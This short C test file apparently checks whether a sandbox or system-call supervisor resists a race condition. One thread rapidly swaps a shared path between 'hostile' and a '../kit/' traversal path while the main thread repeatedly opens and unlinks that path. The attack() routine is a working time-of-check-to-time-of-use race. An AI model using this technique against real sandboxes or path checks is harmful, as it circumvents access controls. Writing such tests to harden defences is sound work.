/*
 * path-that-changes.c - a thread changes the path while the call with it is being looked at
 *
 * play: first 03 server
 * play: main 03 client
 * play: main 01 server
 */
static char path[32];

static void *
change(void *nothing)
{
    for (unsigned int i = 0; i < 3000000; i++)
        memcpy(path, i % 2 == 0 ? "hostile" : "../kit/", 8);
    return nothing;
}

static void
attack(void)
{
    pthread_t thread;

    pthread_create(&thread, NULL, change, NULL);
    for (int i = 0; i < 300; i++) {
        int fd = open(path, O_RDWR | O_CREAT | O_NONBLOCK, 0600);
        if (fd != -1)
            close(fd);
        unlink(path);
    }
    pthread_join(thread, NULL);
}
